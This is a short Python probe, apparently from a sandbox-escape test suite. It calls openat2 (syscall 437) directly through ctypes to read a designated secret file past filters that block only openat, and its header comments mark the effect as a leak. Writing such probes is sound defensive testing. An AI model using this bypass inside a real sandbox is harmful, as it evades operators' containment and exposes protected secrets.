# effect: leak
# note: the newer call that filters of openat miss
import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    long = ctypes.c_long
    args = [long(a) if type(a) is int else a for a in args]
    return LIBC.syscall(long(number), *args)

def attempt(probe):
    import os

    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    return os.read(syscall(437, 437, -100, probe["secret_file"].encode(), how, 24), 100)
